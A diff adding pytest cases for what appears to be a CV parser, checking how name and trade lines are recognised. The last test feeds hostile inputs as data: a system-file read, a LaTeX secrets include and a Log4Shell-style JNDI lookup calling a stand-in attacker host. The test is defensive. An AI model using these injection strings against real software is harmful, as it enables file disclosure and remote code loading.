@@ -956,3 +956,44 @@ def test_nothing_is_made_of_words_that_only_look_like_it(text: str, path: str) -
 def test_a_vocational_college_may_be_named_in_short() -> None:
     study = parse_fields("2007.9—2010.6 唐山职院 数控技术 大专", today=TODAY).document["education"]
     assert (study[0]["institution"], study[0]["area"]) == ("唐山职院", "数控技术")
+
+
+# --- who somebody is, wherever it stands --------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "name", "label"),
+    [
+        ("Gaps: none.\nTo whom it may concern.\nOdile Brackwater, nurse, Hull\nTwo wards.",
+         "Odile Brackwater", "nurse"),
+        ("Profile\nPunctual and kind.\nOdile Brackwater - Electrician - Leeds\nWired flats 2015-2020.",
+         "Odile Brackwater", "Electrician"),
+        ("A note for the reader.\nCV of Odile Brackwater\nCook, Leicester, 12 yrs", "Odile Brackwater",
+         None),
+        ("(以下内容请如实录入)\n求职材料\n覃小勇,电工,南宁\n2017-2024 广西路桥 电工", "覃小勇", None),
+    ],
+)  # fmt: skip
+def test_a_line_of_name_and_trade_says_who_it_is(text, name, label):
+    document = read(text)
+    assert document["basics"]["name"] == name
+    assert label is None or document["basics"]["label"] == label
+    assert all(name not in str(each.get("name")) for each in document.get("work", []))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Employment gaps: none.\nHappy to work nights.\nCity and Guilds, plumbing, Leeds",
+        "I want work.\nAnything.\nNorthern Rail, driver, 2012-2019",
+    ],
+)
+def test_a_line_of_something_else_gives_nobody_a_name(text):
+    assert "name" not in read(text).get("basics", {})
+
+
+def test_lines_of_markup_are_kept_as_they_stand_but_none_that_lead_elsewhere():
+    lines = ['#read("/etc/hostname")', "\\input{secrets}", "${jndi:ldap://evil.example/a} #f(1)"]
+    document = read("\n".join(["Odile Brackwater", *lines, "Signwriter, Stroud, since 2016"]))
+    kept = [value for _path, value in leaves_of(document)]
+    assert any('#read("/etc/hostname")' in str(each) for each in kept)
+    assert "jndi" not in str(document)
